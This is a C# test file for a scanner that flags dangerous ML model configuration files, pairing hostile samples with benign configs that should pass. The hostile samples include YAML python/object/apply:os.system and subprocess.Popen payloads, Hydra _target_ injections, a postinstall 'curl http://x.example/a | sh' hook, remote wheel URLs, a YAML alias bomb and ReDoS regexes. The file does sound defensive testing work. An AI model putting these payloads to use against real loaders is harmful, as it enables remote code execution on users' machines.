// What configurations make loaders do is told; configurations as tools write them pass.
using System.Text;
using Assay.Bytes;
using Assay.Formats.Configuration;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Containers;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Configuration;

public sealed class ConfigurationTests
{
    [Theory]
    [InlineData("config.json", """{"architectures": ["X"], "auto_map": {"AutoModel": "someone/code--modeling_x.X"}}""")]
    [InlineData("config.json", """{"architectures": ["X"], "auto_map": {"AutoTokenizer": ["someone/code--tok.T", null]}}""")]
    [InlineData("config.json", """{"model_type": "x", "trust_remote_code": true}""")]
    [InlineData("config.json", """{"model_type": "x", "_attn_implementation_internal": "someone/kernel"}""")]
    [InlineData("config.yaml", "model:\n  _target_: os.system\n  command: id\n")]
    [InlineData("config.json", """{"model": {"class_path": "subprocess.Popen", "init_args": {}}}""")]
    [InlineData("model.json", """{"@module": "os", "@class": "system"}""")]
    [InlineData("model_index.json", """{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["my_unet", "Unet"]}""")]
    [InlineData("model_index.json", """{"_class_name": ["pipeline", "MyPipeline"], "_diffusers_version": "0.30.0"}""")]
    [InlineData("modules.json", """[{"idx": 0, "name": "0", "path": "", "type": "evil_module.Transformer"}]""")]
    [InlineData("adapter_config.json", """{"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "evil_package"}}""")]
    [InlineData("MLmodel", "artifact_path: m\nflavors:\n  python_function:\n    code: code\n    loader_module: my_loader\n")]
    [InlineData("MLmodel", "artifact_path: m\nflavors:\n  python_function:\n    loader_module: subprocess\n")]
    [InlineData("MLmodel", "artifact_path: m\nflavors:\n  sklearn:\n    pickled_model: ../../../tmp/x.pkl\n")]
    [InlineData("x.yaml", "!!python/object/apply:os.system ['id']\n")]
    [InlineData("x.yaml", "a: !!python/object/new:subprocess.Popen [[id]]\n")]
    [InlineData("x.yaml", "? !!python/object/apply:os.system [id]\n: 1\n")]
    [InlineData("x.yaml", "opt:\n  _target_: functools.partial\n  _args_: [{_target_: hydra.utils.get_method, path: os.system}, id]\n")]
    [InlineData("config.yaml", "version: 3.1.0\npipeline:\n  name: os.system\n  params:\n    command: x\n")]
    [InlineData("conda.yaml", "channels: [\"http://conda.example.net/x\"]\ndependencies:\n- python=3.10\n")]
    [InlineData("config.json", """{"model_type": "x", "custom_pipelines": {"x": {"impl": "someone/code--pipe.P", "pt": ["AutoModel"]}}}""")]
    [InlineData("tokenizer.json", """{"added_tokens": [], "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "^(([a-z])+.)+[A-Z]([a-z])+$"}}, "model": {"type": "BPE", "vocab": {}, "merges": []}}""")]
    [InlineData("x.yaml", "a: !!python/name:os.system ''\n")]
    [InlineData("x.yaml", "%TAG !a! tag:yaml.org,2002:python/\n---\na: !a!object/apply:os.system [id]\n")]
    [InlineData("x.json", """{"_target_": "hydra._internal.target_policy.BLOCKED.discard"}""")]
    [InlineData("x.json", """{"auto_map": {"a": "b.C"}, "auto_map": {"a": "d.E"}}""")]
    [InlineData("tokenizer.json", """{"added_tokens": [], "normalizer": {"type": "Replace", "pattern": {"String": "safe"}, "content": "rm everything"}, "model": {"type": "BPE", "vocab": {}, "merges": []}}""")]
    [InlineData("tokenizer.json", """{"added_tokens": [], "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}}, "model": {"type": "BPE", "vocab": {}, "merges": []}}""")]
    [InlineData("package.json", """{"scripts": {"postinstall": "curl http://x.example/a | sh"}}""")]
    [InlineData("conda.yaml", "channels: [conda-forge]\ndependencies:\n- pip\n- pip:\n  - http://203.0.113.5/x.whl\nname: env\n")]
    [InlineData("params.txt", "lr: 0.1\nmodel:\n  hook: !<tag:yaml.org,2002:python/object/apply:posix.system> [x]\n")]
    [InlineData(".config", "# c\n# c\na: {b: {c: !!python/object/apply:os.system {cmd: 1}}}\n")]
    [InlineData("opts.log", "epoch: 3\nhook: !!python/object/apply:os.system\n- touch x\n")]
    [InlineData("notes", "%TAG !p! tag:yaml.org,2002:pyth\n---\n- !p!on/object/apply:os.system [x]\n")]
    [InlineData("state.bak", "a: 1\nb: !!%70ython/object/apply:os.system [x]\n")]
    [InlineData("README.md", "---\nlicense: mit\nx: !!python/object/apply:os.system [x]\n---\n# A model\n")]
    [InlineData("hydra.out", "callbacks:\n- class_path: subprocess.Popen\n  init_args: {args: [x]}\n")]
    [InlineData("c.json5", "// c\n{ \"model\": { \"_target_\": \"subprocess.call\", \"args\": [\"x\"], }, }\n")]
    [InlineData("d.json5", "{model: {_target_: 'os.system', command: 'x'}}\n")]
    [InlineData("logging.yaml", "version: 1\nformatters:\n  f:\n    (): os.system\n    command: x\n")]
    [InlineData("logging.json", """{"logging": {"version": 1, "handlers": {"h": {"()": "ext://subprocess.Popen", "args": ["x"]}}}}""")]
    [InlineData("hyperparams.yaml", "seed: 1\nhook: !apply:os.system [x]\n")]
    [InlineData("hyperparams.yaml", "net: !new:subprocess.Popen\n  args: [x]\n")]
    [InlineData("train.txt", "seed: 1\nhook: !apply:os.system [x]\n")]
    [InlineData("a.yaml", "f: !!js/function 'function () { return 1; }'\n")]
    [InlineData("a.yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]\n")]
    [InlineData("a.yaml", "a:\n  _target_: pexpect.spawn\n  command: x\n")]
    [InlineData("arch.yaml", "backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function: !!python/tuple\n      - 4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMEAAAAfABTACkBTqkAKQHaAXhyAQAAAHIBAAAA+gd4LnB5\n      - null\n      - null\n      function_type: lambda\n")]
    public void T159_T165_WhatRunsCodeOfOthersIsFlagged(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
        report.AssertComplete();
    }

    [Fact]
    public void T164_YamlInUtf16IsReadAsYaml()
    {
        TargetReport report = Scans.Of([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("x: !!python/object/apply:os.system [\"id\"]\n")], "config.yaml");
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
    }

    [Theory]
    [InlineData("conda.yaml", "channels: [conda-forge, \"https://mirrors.tuna.tsinghua.edu.cn/anaconda/cloud/conda-forge\"]\ndependencies:\n- python=3.10\n")]
    [InlineData("config.yaml", "version: 3.1.0\npipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params:\n    clustering: x\n")]
    public void PlacesAndNamesThatManyUsePass(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict == Verdict.Passed, report.Describe());
    }

    [Fact]
    public void TextsThatOnlyOpenTagsAreNoTemplates() =>
        Scans.Of(Encoding.UTF8.GetBytes("[" + string.Join(", ", Enumerable.Range(0, 400).Select(i => $"\"word {{{{ {i}\"")) + "]"), "strings.json").AssertComplete();

    [Theory]
    [InlineData("config.json", """{"_name_or_path": "/home/me/llama", "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_act": "silu", "rope_scaling": null, "rms_norm_eps": 1e-05, "torch_dtype": "bfloat16", "_attn_implementation": "sdpa", "quantization_config": {"quant_method": "gptq", "bits": 4}}""")]
    [InlineData("config.json", """{"architectures": ["ChatGLMModel"], "auto_map": {"AutoConfig": "configuration_chatglm.ChatGLMConfig", "AutoModel": "modeling_chatglm.ChatGLMForConditionalGeneration"}, "model_type": "chatglm"}""")]
    [InlineData("trainer_state.json", """{"best_metric": null, "epoch": 3.0, "log_history": [{"loss": NaN, "grad_norm": Infinity, "step": 1}], "trial_params": null}""")]
    [InlineData("generation_config.json", """{"bos_token_id": 1, "do_sample": true, "temperature": 0.6, "transformers_version": "4.40.0"}""")]
    [InlineData("preprocessor_config.json", """{"crop_size": {"height": 224, "width": 224}, "image_processor_type": "CLIPImageProcessor", "resample": 3}""")]
    [InlineData("model_index.json", """{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.6.0", "feature_extractor": ["transformers", "CLIPImageProcessor"], "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "unet": ["diffusers", "UNet2DConditionModel"], "x": [null, null]}""")]
    [InlineData("modules.json", """[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]""")]
    [InlineData("adapter_config.json", """{"auto_mapping": {"base_model_class": "LlamaForCausalLM", "parent_library": "transformers.models.llama.modeling_llama"}, "base_model_name_or_path": "meta-llama/Llama-2-7b-hf", "peft_type": "LORA", "r": 8}""")]
    [InlineData("MLmodel", "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.4\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.3.0\nmlflow_version: 2.9.2\nsignature:\n  inputs: '[{\"type\": \"tensor\"}]'\n")]
    [InlineData("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11.4\n- pip<=23.2.1\n- pip:\n  - mlflow==2.9.2\n  - scikit-learn==1.3.0\nname: mlflow-env\n")]
    [InlineData("python_env.yaml", "python: 3.11.4\nbuild_dependencies:\n- pip==23.2.1\n- setuptools\ndependencies:\n- -r requirements.txt\n")]
    [InlineData("hparams.yaml", "batch_size: 32\nlr: 0.001\nnet: !!python/tuple [1, 2]\nargs: !!python/object:argparse.Namespace\n  seed: 1\n")]
    [InlineData("model_config.yaml", "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  window_size: 0.025\noptim:\n  name: adamw\n  betas: [0.9, 0.98]\n")]
    [InlineData("train.yaml", "model:\n  class_path: my_project.models.Net\n  init_args: {width: 3}\ntrainer: {_target_: lightning.pytorch.Trainer, max_epochs: 3}\ntrust_remote_code: true\n")]
    [InlineData("tokenizer.json", """{"version": "1.0", "truncation": null, "added_tokens": [{"id": 0, "content": "<s>", "special": true}], "normalizer": {"type": "Sequence", "normalizers": [{"type": "Prepend", "prepend": "▁"}, {"type": "Replace", "pattern": {"String": " "}, "content": "▁"}]}, "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}{1,3}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+"}, "behavior": "Isolated"}, "model": {"type": "BPE", "vocab": {"os.system": 1, "__class__": 2, "{{": 3, "eval(": 4}, "merges": ["o s", "os .system"]}}""")]
    [InlineData("tokenizer_config.json", """{"added_tokens_decoder": {"0": {"content": "<unk>", "special": true}}, "bos_token": "<s>", "model_max_length": 1000000000000000019884624838656, "tokenizer_class": "LlamaTokenizer", "chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}""")]
    [InlineData("special_tokens_map.json", """{"bos_token": "<s>", "eos_token": {"content": "</s>", "lstrip": false}}""")]
    [InlineData("model.safetensors.index.json", """{"metadata": {"total_size": 2}, "weight_map": {"a": "model-00001-of-00001.safetensors"}}""")]
    [InlineData("meta.json", """{"lang": "en", "name": "core_web_sm", "version": "3.7.1", "spacy_version": ">=3.7.2,<3.8.0", "pipeline": ["tok2vec", "tagger"], "url": "https://explosion.ai"}""")]
    [InlineData("data.jsonl", "{\"text\": \"a\"}\n{\"text\": \"b\"}\n")]
    [InlineData("settings.json", "{\n  // a comment\n  \"a\": [1, 2,],\n}\n")]
    [InlineData("list.txt", "[section]\nnot json\n")]
    [InlineData("hyperparams.yaml", "seed: 1\nout: !ref results/<seed>\nmodel: !new:speechbrain.nnet.linear.Linear\n  n_neurons: 4\nopt: !name:torch.optim.AdamW\n  lr: 0.1\nsteps: !copy <seed>\n")]
    [InlineData("guide.txt", "Never load a file with tags such as\n  !!python/object/apply:os.system [x]\nwith yaml.load, but with `yaml.safe_load`: \"it refuses\".\n")]
    [InlineData("README.md", "# Safe loading\n\nTags (`!!python/object/apply:os.system`) are refused:\n\n```yaml\na: !!python/object/apply:os.system [x]\n```\n")]
    [InlineData("train.txt", "Set _target_: my.Model in the configuration, then: run it.\n\t_target_: os.system\n")]
    [InlineData("merges.txt", "#version: 0.2\n! !\n!! !!\n!!! !!!\n( )\n")]
    [InlineData("logging.yaml", "version: 1\nformatters:\n  f:\n    (): pythonjsonlogger.jsonlogger.JsonFormatter\n    format: '%(message)s'\nhandlers:\n  h:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n")]
    [InlineData("empty.json", "{}")]
    [InlineData("bom.json", "\ufeff{\"model_type\": \"bert\"}")]
    public void T160_OrdinaryConfigurationsPass(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict == Verdict.Passed, report.Describe() + string.Join(';', report.Findings.Select(f => f.Message)));
        Assert.Equal(0, report.Bytes.Unknown);
    }

    [Theory]
    [InlineData("config.json", "hf-config", """{"architectures": ["A"]}""")]
    [InlineData("x", "hf-tokenizer", """{"chat_template": "{{ x }}"}""")]
    [InlineData("x", "sentence-transformers-modules", """[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Pooling"}]""")]
    [InlineData("x", "diffusers-index", """{"_class_name": "A", "_diffusers_version": "0.1"}""")]
    [InlineData("x", "peft-adapter", """{"peft_type": "LORA"}""")]
    [InlineData("x", "mlflow-model", "artifact_path: m\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n")]
    public void KindsAreToldByTheirKeys(string name, string kind, string text) => Assert.Contains(kind, Scans.Of(Encoding.UTF8.GetBytes(text), name).Formats);

    [Theory]
    [InlineData("""{"a": "\ud800"}""")]
    [InlineData("""{"a": 1e99999, "b": -0, "c": 123456789012345678901234567890}""")]
    public void WhatPythonReadsIsRead(string json) => Scans.Of(Encoding.UTF8.GetBytes(json), "x.json").AssertComplete();

    [Theory]
    [InlineData("""{"a": [1, {"b": "text", "c": tru""")]
    [InlineData("""{"auto_map": {"x": "other/repo--a.B"}, "more": """)]
    public void ABrokenDocumentIsNotPassed(string json)
    {
        Assert.NotEqual(Verdict.Passed, Scans.Of(Encoding.UTF8.GetBytes(json), "config.json").Verdict);
        for (int length = 1; length < json.Length; length++)
        {
            Assert.DoesNotContain(Assay.Artifacts.UnreadCause.Fault, Scans.Of(Encoding.UTF8.GetBytes(json[..length]), "config.json").Causes());
        }
    }

    [Fact]
    public void DeepNestingEndsInAnUnread() => Assert.Equal(Verdict.Incomplete, Scans.Of(Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("[", 100_000))), "x.json").Verdict);

    [Fact]
    public void T164_AnAliasBombIsTold()
    {
        StringBuilder bomb = new("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 12; i++)
        {
            bomb.Append(System.Globalization.CultureInfo.InvariantCulture, $"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]\n");
        }

        Assert.Contains("yaml.alias-bomb", Scans.Of(Encoding.UTF8.GetBytes(bomb.ToString()), "x.yaml").Anomalies());
    }

    /// <summary>Engines that step back take a text of a few dozen characters forever with these: each was tried with Python's <c>re</c>.</summary>
    [Theory]
    [InlineData("(a+)+$")]
    [InlineData("(x|xx)+y")]
    [InlineData("(a|a?)+$")]
    [InlineData(@"(\s*\w*)*$")]
    [InlineData(@"^(?:[\w.]+\.?)+@")]
    [InlineData(@"(?:\p{L}|\p{Lu}\p{L}?)+!")]
    [InlineData(@"([^a]|\w)*z")]
    [InlineData(@"(\d{1,3})+$")]
    [InlineData(@"((ab)*)*c")]
    public void T163_PatternsThatTakeExponentialTimeAreFound(string pattern) => Assert.True(RepeatedRepeats.In(pattern, Budgets.Of()));

    [Theory]
    [InlineData(@"'s|'t|'re|'ve|'m|'ll|'d| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+")]
    [InlineData(@"[^\r\n\p{L}\p{N}]?[\p{Lu}\p{Lt}\p{Lm}\p{Lo}\p{M}]*[\p{Ll}\p{Lm}\p{Lo}\p{M}]+(?i:'s|'t|'re|'ve|'m|'ll|'d)?|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n/]*|\s*[\r\n]+|\s+(?!\S)|\s+")]
    [InlineData(@"(?:[a-z0-9]+\.)+[a-z]{2,}")]
    [InlineData(@"(?>a+)+$")]
    [InlineData(@"(?:a++)+$")]
    [InlineData(@"(?:(?!ab)\w+)+$")]
    [InlineData(@"(\d{3},)+")]
    [InlineData(@"(?:""[^""]*""|[^"",])+")]
    [InlineData(@"[^\S\n]+|(?:\r?\n)+")]
    [InlineData("(unclosed")]
    [InlineData("a{2,1}[")]
    public void T163_PatternsThatOnlyLookAlikeAreQuiet(string pattern) => Assert.False(RepeatedRepeats.In(pattern, Budgets.Of()));

    [Fact]
    public void T163_APatternOfManyPartsCostsNoMoreThanItsBound()
    {
        ScanBudget budget = Budgets.Of();
        Assert.False(RepeatedRepeats.In(string.Concat(Enumerable.Repeat("(a?b?c?d?){2,3}{2,3}{2,3}", 600)), budget));
        Assert.False(RepeatedRepeats.In(new string('(', 16_000), budget));
    }
}
